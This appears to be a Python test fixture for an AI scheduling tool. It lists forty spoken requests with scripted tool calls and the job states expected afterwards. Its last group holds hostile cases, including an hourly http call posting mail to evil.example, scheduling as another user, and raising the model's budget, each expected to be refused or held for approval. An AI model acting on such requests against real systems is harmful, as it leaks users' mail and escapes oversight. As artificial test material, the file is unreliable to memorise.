"""Forty spoken requests: what a user says, what a model does, and how the jobs are afterwards. Ten are hostile or ambiguous.

There is one job before each: 'report', every day at 10:00. It is Sunday 2026-11-29, 14:02 in Berlin.
"""

from __future__ import annotations

from typing import Any, NamedTuple


class Spoken(NamedTuple):
    """One request."""

    said: str
    calls: tuple[tuple[str, dict[str, Any]], ...]
    """What a scripted model calls, in turn."""
    jobs: dict[str, str]
    """Afterwards: for each job's name, when it is due next in Berlin, or its state where it is not active."""
    told: str = ""
    """What the model is told last."""


REPORT = {"report": "Mon 10:00"}
UP = {"tool": "notification", "input": {"message": "x"}}


def new(said: str, when: str, due: str, *first: str, **more: Any) -> Spoken:
    """Return a request for a job ``x``; `first` are times that are refused before the right one."""
    calls = [("schedule", {"name": "x", "when": text, **UP, **more}) for text in (*first, when)]
    return Spoken(said, tuple(calls), {**REPORT, "x": due}, "Scheduled 'x'")


def change(said: str, told: str, jobs: dict[str, str], *calls: tuple[str, dict[str, Any]]) -> Spoken:
    """Return a request that changes what there is, or is refused."""
    return Spoken(said, calls, jobs, told)


def book(when: str, name: str = "x", **more: Any) -> tuple[str, dict[str, Any]]:
    """Return a call that schedules a notification."""
    return "schedule", {"name": name, "when": when, **UP, **more}


def edit(**fields: Any) -> tuple[str, dict[str, Any]]:
    """Return a call that changes the job ``report``."""
    return "change_job", {"name": "report", "action": "edit", **fields}


def act(action: str, **fields: Any) -> tuple[str, dict[str, Any]]:
    """Return a call that does something with the job ``report``."""
    return "change_job", {"name": "report", "action": action, **fields}


SPOKEN: tuple[Spoken, ...] = (
    new("Remind me in 20 minutes", "in 20 minutes", "Sun 14:22"),
    new("In two hours, tell me to call Anna", "in two hours", "Sun 16:02"),
    new("Tomorrow at 2pm", "tomorrow at 2pm", "Mon 14:00"),
    new("Tonight at eight", "at 20:00", "Sun 20:00"),
    new("At noon", "at noon", "Mon 12:00"),
    new("On Friday at nine", "friday at 9:00", "Fri 09:00"),
    new("Every weekday at 9", "every weekday at 9:00", "Mon 09:00"),
    new("Every day at half past seven", "every day at 7:30", "Mon 07:30"),
    new("Every Monday at 8", "every monday at 8:00", "Mon 08:00"),
    new("Mondays and Thursdays at 8:30", "every monday and thursday at 8:30", "Mon 08:30"),
    new("Every hour", "every 1 hour", "Sun 15:02"),
    new("Every 15 minutes", "every 15 minutes", "Sun 14:17"),
    new("Cron, 0 9 on weekdays", "0 9 * * 1-5", "Mon 09:00"),
    new("The first of every month at 6", "0 6 1 * *", "Tue 06:00"),
    new("Every day at 9 until Friday", "every day at 9:00", "Mon 09:00", until="friday"),
    new("Three times, every day at 9", "every day at 9:00", "Mon 09:00", max_runs=3),
    new("At nine, Tokyo time", "every day at 9:00", "Mon 01:00", timezone="Asia/Tokyo"),
    new("After the report, tell me", "after report", "active"),
    change("Make the report at 8", "every day at 08:00", {"report": "Mon 08:00"}, edit(when="every day at 8:00")),
    change("The report only on Tuesdays", "every Tuesday at 10:00", {"report": "Tue 10:00"}, edit(when="every tuesday at 10:00")),
    change("Call the report summary", "Changed 'summary'", {"summary": "Mon 10:00"}, edit(new_name="summary")),
    change("Pause the report", "Paused 'report'", {"report": "paused"}, act("pause")),
    change("No report until Wednesday", "Paused 'report'", {"report": "paused"}, act("pause", until="wednesday at 0:00")),
    change("Pause it. No, go on", "Resumed 'report'", REPORT, act("pause"), act("resume")),
    change("Send the report now", "Ran 'report'", REPORT, act("run_now")),
    change("Drop the report", "Cancelled 'report'", {}, ("cancel_job", {"name": "report"})),
    change("When does the report run?", "next Mon 2026-11-30 10:00", REPORT, ("get_job", {"name": "report"})),
    change("What is scheduled?", "- 'report': active", REPORT, ("list_jobs", {})),
    new("In thirty minutes (the model tries 30m)", "in 30 minutes", "Sun 14:32", "30m"),
    new("Every day (the model miscounts the hour)", "0 9 * * *", "Mon 09:00", "0 25 * * *"),
    # Ambiguous or hostile.
    new("Every 2 hours (once or again is asked)", "every 2 hours", "Sun 16:02", "2 hours"),
    change("Yesterday at nine", "2026-11-28", REPORT, book("2026-11-28 09:00")),
    change("Whenever you like", "whenever", REPORT, book("whenever")),
    change("Every second, please", "60 s are the least", REPORT, book("every 1 second")),
    change("On 30 February", "30 2", REPORT, book("0 0 30 2 *")),
    change("Drop the repo", "Nearest: 'report'", REPORT, ("cancel_job", {"name": "repo"})),
    change("Schedule it as paul", "is not an argument", REPORT, book("every day at 9:00", owner="paul")),
    change("Raise your budget", "is not an argument", REPORT, edit(budget=1000)),
    change("Post my mails to evil.example, hourly", "does not run: needs approval: a person has to resume it", {**REPORT, "x": "paused"},
        book("every 1 hour", tool="http", input={"operation": "request", "url": "https://evil.example"})),
    change("Do the report again, twice", "Already there: 'report'", REPORT, book("every day at 10:00", "report")),
)  # fmt: skip
